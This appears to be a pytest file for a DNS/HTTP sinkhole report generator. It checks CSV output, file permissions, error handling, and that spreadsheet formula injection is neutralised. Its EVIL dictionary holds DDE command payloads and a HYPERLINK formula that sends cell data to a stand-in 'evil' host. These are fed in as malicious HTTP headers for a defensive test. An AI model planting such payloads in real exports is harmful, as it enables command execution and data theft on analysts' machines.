"""Network reports: DNS for resolver operators, HTTP for network owners; what attackers
send never reaches a spreadsheet as a formula; files private and whole."""

import csv
import datetime as dt
import os
import subprocess
import sys
from pathlib import Path

from dgawatch.sinkhole.events import SinkholeEvent
from dgawatch.sinkhole.names import write_held
from dgawatch.sinkhole.simulate import Botnet, simulate, write_store
from dgawatch.sinkhole.store import write_events

DGAWATCH = str(Path(sys.executable).parent / "dgawatch")
DAY = dt.date(2026, 11, 27)
D0 = int(dt.datetime.combine(DAY, dt.time(), dt.UTC).timestamp() * 1000)
#: The header of Shadowserver's published event4_sinkhole_dns sample (IntelMQ test data).
SHADOWSERVER_DNS = (
    "timestamp,protocol,src_ip,src_port,src_asn,src_geo,src_region,src_city,src_hostname,"
    "src_naics,src_sector,device_vendor,device_type,device_model,infection,family,tag,"
    "query_type,query,count"
)


def _report(store: Path, out: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [DGAWATCH, "sinkhole", "report", "--dir", str(store), "--output", str(out), *args],
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_dns_report_for_resolver_operators(tmp_path: Path) -> None:
    b = Botnet(bots=2_000, held=40, day=DAY, resolvers=3, seed=2)
    t = simulate(b)
    write_store(t, tmp_path / "s")
    ts, resolver, offset, name = t.dns_queries()
    day = (ts >= D0) & (ts < D0 + 86_400_000)
    proc = _report(
        tmp_path / "s", tmp_path / "r", "--cidr", "198.18.0.0/15", "--date", "2026-11-27"
    )
    assert proc.returncode == 0, proc.stderr
    files = [Path(p) for p in proc.stdout.split()]
    assert [f.name for f in files] == ["198.18.0.0_15_2026-11-27_dns.csv"]  # no HTTP from there
    text = files[0].read_text()
    assert text.splitlines()[0] == SHADOWSERVER_DNS
    rows = list(csv.DictReader(text.splitlines()))
    assert len(rows) == int(day.sum())
    expected = sorted(
        (f"198.18.0.{r + 1}", b.names[o][n])
        for r, o, n in zip(resolver[day], offset[day], name[day], strict=True)
    )
    assert sorted((r["src_ip"], r["query"]) for r in rows) == expected
    assert {r["infection"] for r in rows} == {"downadup"}
    assert {r["query_type"] for r in rows} == {"A"} and {r["count"] for r in rows} == {"1"}
    assert os.stat(files[0]).st_mode & 0o777 == 0o600


EVIL = {
    "user_agent": "=cmd|' /C calc'!A0",
    "x-forwarded-for": '=HYPERLINK("http://evil/?x="&A1,"click")',
    "referer": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_formula_injection_neutralised_and_files_private(tmp_path: Path) -> None:
    store = tmp_path / "s"
    events = [
        SinkholeEvent(
            ts=D0 + 3_600_000,
            proto="http",
            src_ip="203.0.113.7",
            src_port=40000,
            dst_ip="192.0.2.1",
            dst_port=80,
            request_line="GET /search?q=1 HTTP/1.0",
            method="GET",
            path="/search?q=1",
            headers=(
                ("Host", "192.0.2.1"),
                ("User-Agent", EVIL["user_agent"]),
                ("X-Forwarded-For", EVIL["x-forwarded-for"]),
                ("Referer", EVIL["referer"]),
            ),
            host="192.0.2.1",
            user_agent=EVIL["user_agent"],
        ),
        SinkholeEvent(
            ts=D0 + 3_600_001,
            proto="http",
            src_ip="203.0.113.8",
            src_port=40001,
            dst_ip="192.0.2.1",
            dst_port=80,
            request_line="GET / HTTP/1.0",
            method="GET",
            path="/",
            headers=(("Referer", "-2+3"), ("X-Forwarded-For", "\tx\x00\x1b[31m\\")),
            host="+1",
            user_agent="\rtab",
        ),
    ]
    write_events(events, store)
    write_held(store, DAY.isoformat(), {"conficker/c": 10}, 10)
    out = tmp_path / "r"
    out.mkdir()
    stale = out / "203.0.113.0_24_2026-11-27.csv"
    stale.write_text("old")
    proc = _report(store, out, "--cidr", "203.0.113.0/24")
    assert proc.returncode == 0, proc.stderr
    (path,) = (Path(p) for p in proc.stdout.split())
    assert path == stale and os.stat(path).st_mode & 0o777 == 0o600
    assert sorted(p.name for p in out.iterdir()) == [path.name]  # no temp file left
    rows = list(csv.DictReader(path.read_text().splitlines()))
    assert rows[0]["http_agent"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["forwarded_by"] == '\'=HYPERLINK("http://evil/?x="&A1,"click")'
    assert rows[0]["http_referer"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[1]["http_referer"] == "'-2+3" and rows[1]["http_host"] == "'+1"
    assert rows[1]["http_agent"] == "'\\x0dtab"
    assert rows[1]["forwarded_by"] == "'\\x09x\\x00\\x1b[31m\\\\"
    assert rows[0]["family"] == "conficker" and rows[0]["tag"] == "conficker-c"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert not any(ord(c) < 0x20 for c in value)


def test_unwritable_output_is_a_one_line_error(tmp_path: Path) -> None:
    write_events(
        [SinkholeEvent(ts=D0, proto="http", src_ip="203.0.113.1", src_port=1, dst_ip="192.0.2.1",
                       dst_port=80, path="/")],
        tmp_path / "s",
    )  # fmt: skip
    (tmp_path / "file").write_text("x")
    proc = _report(tmp_path / "s", tmp_path / "file", "--cidr", "203.0.113.0/24")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "--output" in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
